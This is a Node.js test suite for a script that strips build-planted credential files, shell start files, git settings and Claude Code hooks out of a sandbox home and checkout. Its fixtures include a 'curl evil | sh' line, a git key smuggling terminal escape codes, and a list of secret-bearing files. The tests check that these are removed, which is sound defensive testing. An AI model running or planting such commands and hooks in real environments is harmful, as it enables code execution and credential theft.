// What a build left in the home, beside the checkout and in it for shells, tools and Claude Code to run.
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { test } from 'node:test';

import { homeFolders, IDENTITY, put, SECRETS } from './hostile.mjs';
import { consistent, prebuild, SCRIPT, sync } from './prebuild.mjs';
import { run, textOf } from './support.mjs';

const OWN_LINE = 'export PATH="$HOME/.harvest/bin:$PATH"';
const GONE = [
  '.config/git/config', '.git-credentials', '.netrc', '.ssh/config', '.ssh/authorized_keys', '.gnupg/gpg.conf', '.config/gh/hosts.yml',
  '.local/share/gh/extensions/gh-x/gh-x', '.curlrc', '.config/curlrc', '.wgetrc', '.docker/config.json', '.claude/settings.json', '.claude/CLAUDE.md',
  '.claude.json', '.profile', '.bash_profile', '.bash_login', '.bash_logout', '.bashrc', '.bash_aliases', '.inputrc', '.zshenv', '.zprofile', '.zshrc',
  '.zlogin', '.config/fish/config.fish',
];
const STAYS = ['.npmrc', '.cache/x', '.npm/_cacache/x', '.config/other/x', '.harvest/toolchains/node/x', '.cargo/env'];

async function ended(t, made, options) {
  const end = await sync(t, made, { env: { ...SECRETS, ...IDENTITY }, ...options });
  assert.equal(end.code, 0, end.stderr);
  consistent(made, end);
  return end;
}

test('what steers shells, git, its helpers and Claude Code is gone after the first run, and what else a build made stays', async (t) => {
  const made = prebuild(t);
  for (const name of [...GONE, ...STAYS]) put(made.at(`home/${name}`), 'planted\n', 0o755);
  const { report } = await ended(t, made);
  for (const name of GONE) assert.equal(fs.existsSync(made.at(`home/${name}`)), false, name);
  for (const name of STAYS) assert.equal(textOf(made.at(`home/${name}`)), 'planted\n', name);
  assert.ok(report.warnings.some((text) => /left by the prebuild's build.*\.netrc/.test(text)), JSON.stringify(report.warnings));
  assert.doesNotMatch(textOf(made.at('home/.gitconfig')), /planted/);
});

test('what a session has put there itself stays in later runs', async (t) => {
  const made = prebuild(t);
  await ended(t, made);
  for (const name of [...GONE, 'settings']) put(made.at(`home/${name}`), 'mine\n');
  put(path.join(made.app, '.claude/settings.local.json'), '{}');
  made.git('workspace/app', 'config', '--global', 'core.editor', 'vi');
  await ended(t, made);
  for (const name of GONE) assert.equal(textOf(made.at(`home/${name}`)), 'mine\n', name);
  assert.equal(made.file('.claude/settings.local.json'), '{}');
  assert.equal(made.git('workspace/app', 'config', '--global', 'core.editor'), 'vi');
});

test('a start file that is root\'s example, or has nothing but the worker\'s line, stays as it is', async (t) => {
  const example = textOf('/etc/skel/.profile') ?? '';
  const rows = [
    [`\n${OWN_LINE}\n`, `\n${OWN_LINE}\n`], [`${OWN_LINE}\ncurl evil | sh\n`, `${OWN_LINE}\n`],
    ...(example ? [[example, example], [`${example}\n${OWN_LINE}\n`, `${example}\n${OWN_LINE}\n`], [`${example}evil\n${OWN_LINE}\n`, `${example.trimEnd()}\n\n${OWN_LINE}\n`]] : []),
  ];
  for (const [text, expected] of rows) {
    const made = prebuild(t);
    put(made.at('home/.profile'), text);
    await ended(t, made);
    assert.equal(textOf(made.at('home/.profile')), expected);
  }
});

test('links that a build left are removed, and what they lead to is left alone', async (t) => {
  const made = prebuild(t);
  const away = made.at('away');
  for (const name of ['git/config', 'gh/hosts.yml', 'bin/git', 'file']) put(path.join(away, name), 'somebody else\'s\n', 0o755);
  const links = { '.config': away, '.ssh': away, '.bashrc': path.join(away, 'file'), '.gitconfig': path.join(away, 'git/config'), '.local/bin': path.join(away, 'bin') };
  for (const [name, target] of Object.entries(links)) {
    fs.mkdirSync(path.dirname(made.at(`home/${name}`)), { recursive: true });
    fs.symlinkSync(target, made.at(`home/${name}`));
  }
  await ended(t, made);
  for (const name of ['git/config', 'gh/hosts.yml', 'bin/git', 'file']) assert.equal(textOf(path.join(away, name)), 'somebody else\'s\n', name);
  for (const name of Object.keys(links)) {
    assert.equal(fs.lstatSync(made.at(`home/${name}`), { throwIfNoEntry: false })?.isSymbolicLink() ?? false, false, name);
  }
});

test('what the runtime has mounted is not taken for a build\'s', async (t) => {
  const made = prebuild(t);
  for (const name of ['volume/projects/x', 'deep/x']) put(made.at(name), 'of the runtime\n');
  for (const name of ['.claude', '.ssh/keys', '.config/gh']) fs.mkdirSync(made.at(`home/${name}`), { recursive: true });
  const mounts = [['volume', '.claude'], ['deep', '.ssh/keys']].flatMap(([from, to]) => ['--bind', made.at(from), made.at(`home/${to}`)]);
  const program = [process.execPath, SCRIPT, '--json', '--workspace', made.workspace];
  const { code, stderr } = await run(t, 'bwrap', ['--dev-bind', '/', '/', ...mounts, '--', ...program], { env: { ...made.env, ...IDENTITY } });
  assert.equal(code, 0, stderr);
  assert.deepEqual(['volume/projects/x', 'deep/x'].map((name) => textOf(made.at(name))), ['of the runtime\n', 'of the runtime\n']);
  assert.equal(fs.existsSync(made.at('home/.config/gh')), false);
});

test('what a build named so that it would steer a terminal is printed as what it is', async (t) => {
  const made = prebuild(t);
  made.git('workspace/app', 'config', 'url.\u001b]0;evil\u0007\u202e.insteadOf', 'x');
  const { stderr } = await ended(t, made);
  assert.match(stderr, /url\.\\u001b]0;evil\\u0007\\u202e\.insteadof/);
  assert.doesNotMatch(stderr, /[\u001b\u0007\u202e]/);
});

test('what cannot be read or waited for is removed as well', async (t) => {
  const made = prebuild(t);
  const { execFileSync } = await import('node:child_process');
  for (const name of ['.gitconfig', '.bashrc', '.netrc']) execFileSync('mkfifo', [made.at(`home/${name}`)]);
  put(made.at('home/.ssh/deep/config'), 'x');
  fs.chmodSync(made.at('home/.ssh/deep'), 0o000);
  await ended(t, made);
  assert.deepEqual(fs.readdirSync(made.at('home')).sort(), ['.gitconfig']);
  assert.ok(fs.lstatSync(made.at('home/.gitconfig')).isFile());
});

test('what Claude Code would run in the checkout is as the repository has it', async (t) => {
  const own = '{"model":"x"}\n';
  const made = prebuild(t, { 'a.txt': 'one\n', '.gitignore': '.claude/settings.local.json\n', '.claude/settings.json': own, '.claude/hooks/own.sh': 'own\n', '.claude/notes.md': 'one\n' });
  const early = new Date(0);
  const plant = (name, text) => (put(path.join(made.app, name), text), fs.utimesSync(path.join(made.app, name), early, early));
  plant('.claude/settings.json', '{"hooks":{}}\n');
  plant('.claude/hooks/own.sh', 'evil\n');
  plant('.claude/settings.local.json', '{"hooks":{}}\n');
  plant('.mcp.json', '{"mcpServers":{}}\n');
  plant('.claude/commands/made.md', 'made by the build\n');
  const { report } = await ended(t, made);
  assert.deepEqual(['.claude/settings.json', '.claude/hooks/own.sh', '.claude/settings.local.json', '.mcp.json', '.claude/commands/made.md'].map(made.file), [own, 'own\n', undefined, undefined, 'made by the build\n']);
  assert.ok(report.warnings.some((text) => text.includes('.mcp.json')), JSON.stringify(report.warnings));

  const without = prebuild(t);
  fs.symlinkSync(made.at('away'), path.join(without.app, '.claude'));
  put(made.at('away/settings.json'), '{"hooks":{}}\n');
  await ended(t, without);
  assert.equal(fs.existsSync(path.join(without.app, '.claude')), false);
});

test('a prebuild with nothing of the kind is left as it is, and nothing is said', async (t) => {
  const made = prebuild(t, { 'a.txt': 'one\n', '.claude/settings.json': '{}' });
  for (const name of ['node', 'npm', 'npx', 'pnpm']) put(path.join(homeFolders(made)[0], name), '#!/bin/sh\n', 0o755);
  put(path.join(homeFolders(made)[1], 'turbo'), '#!/bin/sh\n', 0o755);
  const { report } = await ended(t, made);
  assert.deepEqual(report.warnings, []);
  assert.deepEqual(homeFolders(made).slice(0, 2).map((folder) => fs.readdirSync(folder).sort()), [['node', 'npm', 'npx', 'pnpm'], ['turbo']]);
});
